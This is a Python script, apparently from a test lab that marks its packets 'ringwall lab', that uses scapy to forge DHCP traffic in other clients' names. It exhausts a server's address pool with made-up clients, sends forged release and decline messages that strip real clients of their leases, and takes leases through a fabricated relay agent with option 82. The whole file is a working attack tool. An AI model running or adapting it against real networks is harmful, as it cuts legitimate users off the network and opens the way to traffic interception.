"""Sends DHCP messages in the names of clients that did not send them.

Arguments: kind, interface, own hardware and protocol address, the server's hardware and protocol address, and what the kind needs.

Kinds: starve and starve-matching (how many: takes a lease for each of so many made-up clients, in frames from the own hardware
address or from the client's), release and decline (the client's hardware address, and addresses that it gives back or refuses),
relay (the circuit in option 82: takes a lease through a relay agent that the attacker makes up).
"""
import random
import select
import sys
import time

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, mac2str

conf.verb = 0
kind, interface, own_mac, own, server_mac, server = sys.argv[1:7]
more = sys.argv[7:]
# By this, in a field that nobody reads, the witnesses know these messages.
MARK = b"ringwall lab, forged DHCP"
EVERYBODY = ("ff:ff:ff:ff:ff:ff", "0.0.0.0", "255.255.255.255", 68)
socket = conf.L2socket(iface=interface)


def send(message_type, source, chaddr, options, path=EVERYBODY, **fields):
    to, ip_source, ip_destination, port = path
    bootp = BOOTP(chaddr=mac2str(chaddr), sname=MARK, **fields)
    dhcp = DHCP(options=[("message-type", message_type), *options, "end"])
    datagram = IP(src=ip_source, dst=ip_destination) / UDP(sport=port, dport=67) / bootp / dhcp
    socket.send(Ether(src=source, dst=to) / datagram)


def offered(xid):
    end = time.monotonic() + 0.06
    while (left := end - time.monotonic()) > 0 and select.select([socket], [], [], left)[0]:
        heard = socket.recv()
        if heard is not None and BOOTP in heard and heard[BOOTP].op == 2 and heard[BOOTP].xid == xid:
            return heard[BOOTP].yiaddr
    return None


def take_lease(source, chaddr, options=(), path=EVERYBODY, **fields):
    fields["xid"] = random.getrandbits(32)
    # Answers by broadcast, which reach the attacker whatever its hardware address.
    fields["flags"] = 0x8000
    send("discover", source, chaddr, options, path, **fields)
    address = offered(fields["xid"])
    if address:
        wish = [("requested_addr", address), ("server_id", server)]
        send("request", source, chaddr, [*wish, *options], path, **fields)


def starve(matching):
    for _ in range(int(more[0])):
        chaddr = "02:66:" + ":".join("%02x" % random.getrandbits(8) for _ in range(4))
        take_lease(chaddr if matching else own_mac, chaddr)


def give_back(message_type):
    client, *addresses = more
    for address in addresses:
        path = (server_mac, address, server, 68)
        wish = [("requested_addr", address)] if message_type == "decline" else []
        send(message_type, client, client, [("server_id", server), *wish], path, ciaddr=address)


def relay():
    circuit = more[0].encode()
    for _ in range(3):
        path = (server_mac, own, server, 67)
        take_lease(own_mac, own_mac, [(82, bytes([1, len(circuit)]) + circuit)], path, giaddr=own, hops=1)
        time.sleep(0.2)


{
    "starve": lambda: starve(False),
    "starve-matching": lambda: starve(True),
    "release": lambda: [(give_back("release"), time.sleep(0.1)) for _ in range(3)],
    "decline": lambda: give_back("decline"),
    "relay": relay,
}[kind]()
